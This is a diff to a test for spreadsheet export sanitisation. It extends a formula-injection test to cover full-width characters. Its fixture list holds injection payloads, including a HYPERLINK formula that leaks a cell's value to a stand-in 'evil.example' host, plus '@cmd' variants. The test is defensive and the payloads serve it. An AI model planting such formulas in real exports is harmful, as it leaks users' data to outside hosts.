@@ -66,7 +66,7 @@ describe('export files', () => {
     }
   });
 
-  it('neutralises spreadsheet formulas: cells starting with = + - @ tab or CR get a leading apostrophe', async () => {
+  it('neutralises spreadsheet formulas: cells starting with = + - @ tab or CR, or the full-width ＝ ＋ － ＠, get a leading apostrophe', async () => {
     const caller = await world.workspace(100);
     const dangerous = [
       '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -75,6 +75,10 @@ describe('export files', () => {
       '@cmd',
       '\tTabbed Inc',
       '\rCarriage Inc',
+      '＝HYPERLINK("http://evil.example","Wide")',
+      '＋SUM(1,2) Wide',
+      '－2+3 Wide',
+      '＠cmd Wide',
     ];
     const ids: string[] = [];
     for (const name of dangerous) ids.push(await world.addCompany({ name, description: '=1+1 in the description too' }));
